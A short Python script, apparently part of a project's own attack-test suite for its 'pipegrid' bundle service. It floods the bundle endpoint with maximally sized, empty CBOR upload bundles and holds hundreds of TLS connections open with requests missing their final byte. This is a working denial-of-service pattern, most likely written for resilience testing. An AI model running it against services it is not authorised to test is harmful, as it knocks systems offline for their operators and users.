"""Bundles of as many allocations as one may hold, none of them with data, and bundles that are cut off."""

from __future__ import annotations

import ssl

from misc.attack.insiders import lines
from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut
from pipegrid.wire import cbor, gbs_bundles, gbs_paths_headers

SECRET = b"s" * 32


def attack(target: Target) -> None:
    """Send whole ones, and leave others unfinished."""
    held: list[ssl.SSLSocket] = []
    with lines(target, 8) as line:
        for turn in again_and_again(target, 0.01):
            body = cbor.dumps(
                [
                    [
                        (turn * 128 + upload).to_bytes(16, "big"),
                        SECRET,
                        SECRET,
                        b"u%d" % turn,
                        1,
                        list(range(gbs_bundles.MAX_NUMBERS // gbs_bundles.MAX_UPLOADS)),
                        {},
                    ]
                    for upload in range(gbs_bundles.MAX_UPLOADS)
                ]
            )
            request = target.requests.request("POST", gbs_paths_headers.BUNDLE_PATH, body=body)
            line.send([request])
            if turn % 4 == 0 and len(held) < 300:
                with refused_or_cut():
                    held.append(target.connect_tls())
                    held[-1].sendall(request[:-1])
    for each in held:
        each.close()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
